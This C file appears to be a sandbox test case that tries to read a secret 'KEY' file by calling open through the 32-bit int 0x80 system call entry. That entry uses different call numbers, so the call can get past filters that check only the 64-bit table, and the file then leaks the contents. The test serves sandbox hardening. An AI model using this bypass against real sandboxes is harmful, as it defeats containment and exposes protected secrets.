// Opens the key by the 32-bit entry of the kernel, whose numbers mean other calls.
// class: OS sandboxes: other system call tables
// plain: leak
// inside: signal 31
#include "attack.h"

static long call32(long number_, long a, long b, long c) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number_), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
  return result;
}

// What a kernel answers to the instruction that was started without that entry (ia32_emulation=0).
static void no_entry(int number) {
  (void)number;
  needs("ia32-emulation");
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  char* low = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  strcpy(low, fact("KEY"));
  if (!inside()) signal(SIGSEGV, no_entry);
  const int fd = (int)call32(5 /* open */, (long)low, O_RDONLY, 0);
  if (fd < 0) {
    if (!inside()) needs("ia32-emulation");
    printf("refused: %d\n", fd);
    return 0;
  }
  drain(fd);
  return 0;
}
